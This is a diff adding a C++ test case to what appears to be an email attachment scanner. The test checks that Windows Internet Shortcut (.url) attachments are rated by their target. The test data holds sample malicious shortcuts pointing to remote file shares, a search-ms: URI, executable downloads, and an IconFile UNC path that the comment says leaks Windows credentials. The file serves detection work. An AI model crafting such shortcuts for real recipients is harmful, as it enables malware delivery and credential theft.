@@ -194,6 +194,36 @@ TEST_CASE(
   CHECK(o.first("dangerous_attachment") == "photo.jpg");
 }
 
+TEST_CASE("dangerous_attachment: Internet shortcuts by where they lead") {
+  auto shortcut = [](std::string_view target, std::string_view extra = "") {
+    return "[InternetShortcut]\r\nURL=" + std::string(target) + "\r\n" + std::string(extra);
+  };
+  // To a file share, a local file or a program: what malware waves send.
+  for (const char* target : {"file://198.51.100.7/share/Rechnung.exe", "\\\\198.51.100.7\\s\\a.lnk",
+                             "search-ms:query=invoice&crumb=location:\\\\198.51.100.7",
+                             "https://x.example/setup.exe", "http://x.example/dl/update.js?id=1"}) {
+    INFO(target);
+    Outcome o = run_one(attachment("Rechnung.url", shortcut(target)));
+    CHECK(o.first("dangerous_attachment") == "Rechnung.url");
+    CHECK(o.strength["dangerous_attachment"] == 1.0);
+  }
+  // An icon fetched from a share leaks the reader's Windows credentials.
+  Outcome o = run_one(
+      attachment("Info.url", shortcut("https://x.example/", "IconFile=\\\\198.51.100.7\\i.ico")));
+  CHECK(o.strength["dangerous_attachment"] == 1.0);
+  // A bookmark of a web page weighs like a link; unreadable content keeps
+  // the listed strength.
+  for (const char* target : {"http://www.english.upenn.edu/~afilreis/50s/schleslib.html",
+                             "https://example.com", "https://example.com/a/b?x=1.exe"}) {
+    INFO(target);
+    o = run_one(attachment("Liberalism in America.url", shortcut(target)));
+    CHECK(o.first("dangerous_attachment") == "Liberalism in America.url");
+    CHECK(o.strength["dangerous_attachment"] < 0.5);
+  }
+  o = run_one(attachment("Rechnung.url"));
+  CHECK(o.strength["dangerous_attachment"] >= 0.8);
+}
+
 TEST_CASE("dangerous_attachment: a program inside a ZIP archive") {
   Outcome o = run_one(attachment("Lieferschein_0815.zip", zip_with("Lieferschein.lnk")));
   CHECK(o.first("dangerous_attachment") == "Lieferschein_0815.zip");
